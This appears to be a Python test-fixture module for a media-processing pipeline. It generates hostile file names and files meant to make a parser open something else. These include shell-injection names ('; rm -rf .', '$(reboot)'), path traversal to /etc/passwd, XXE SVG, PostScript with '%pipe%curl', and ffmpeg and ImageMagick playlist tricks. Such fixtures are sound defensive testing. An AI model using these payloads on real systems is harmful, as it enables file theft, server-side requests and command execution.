"""Files that try to make a reader open something else: playlists, scripts and drawings that name addresses and /etc/passwd."""

from __future__ import annotations

import io

import numpy as np
from PIL import Image

NAMES = [
    "-i",
    "-vf",
    "concat:a|b.png",
    "http:evil.png",
    "file,subfile,,start,0,end,9,,:x.png",
    "a b.png; rm -rf .",
    "$(reboot).png",
    "..%2f..%2fetc%2fpasswd",
    "%00.png",
    "\u202egnp.exe",
    "naïve 図.png",
    "n" * 300 + ".png",
    ".hidden.png",
    "%d.png",
    "@list.png",
]


def contents(url: str) -> dict[str, bytes]:
    """Name of the trick -> bytes; every one names `url` and a file of the machine."""
    secret = "/etc/passwd"
    return {
        "hls": f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}/a.ts\n#EXTINF:1,\nfile://{secret}\n#EXT-X-ENDLIST\n".encode(),
        "ffconcat": f"ffconcat version 1.0\nfile '{secret}'\nfile '{url}/a.mp4'\n".encode(),
        "svg": f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY y SYSTEM "{url}/x">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/i.png"/><text>&x;&y;</text></svg>'.encode(),
        "eps": f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n({secret}) (r) file\n%%EOF\n".encode(),
        "ps": f"%!PS\n(%pipe%curl {url}) (r) file\nshowpage\n".encode(),
        "mvg": f"push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 '{url}/x.png'\npop graphic-context\n".encode(),
        "msl": f'<?xml version="1.0"?><image><read filename="{secret}"/><write filename="/tmp/x"/></image>'.encode(),
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video {url.rsplit(':')[-1]} RTP/AVP 96\n".encode(),
        "dash": f'<?xml version="1.0"?><MPD type="static"><Period><BaseURL>{url}/</BaseURL></Period></MPD>'.encode(),
        "asx": f'<asx version="3.0"><entry><ref href="{url}/x"/></entry></asx>'.encode(),
        "html": f'<html><meta http-equiv="refresh" content="0;url={url}"><script>fetch("{url}")</script></html>'.encode(),
    }


def png(colour=(120, 60, 200), size=(64, 48)) -> bytes:
    """A valid picture of one colour."""
    packed = io.BytesIO()
    Image.new("RGB", size, tuple(colour)).save(packed, "PNG")
    return packed.getvalue()


def noise_png(seed: int, size=(64, 48)) -> bytes:
    """A valid picture of noise, so that no two are alike."""
    packed = io.BytesIO()
    pixels = np.random.default_rng(seed).integers(0, 255, (size[1], size[0], 3), dtype=np.uint8)
    Image.fromarray(pixels).save(packed, "PNG")
    return packed.getvalue()
